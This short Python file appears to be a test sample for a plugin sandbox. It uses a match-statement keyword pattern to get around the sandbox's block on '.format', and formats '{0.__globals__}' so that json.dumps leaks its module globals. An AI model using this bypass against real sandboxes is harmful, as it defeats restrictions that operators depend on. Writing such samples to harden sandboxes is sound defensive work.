import json

U = "_" * 2
FMT = "{0." + U + "globals" + U + "}"

# `.format` on a non-literal string is refused by visit_Attribute, but a match keyword
# pattern `str(format=f)` fetches the bound method of the runtime-built string.
class Plugin:
    def run(self):
        match FMT:
            case str(format=f):
                text = f(json.dumps)
        return text[:200]
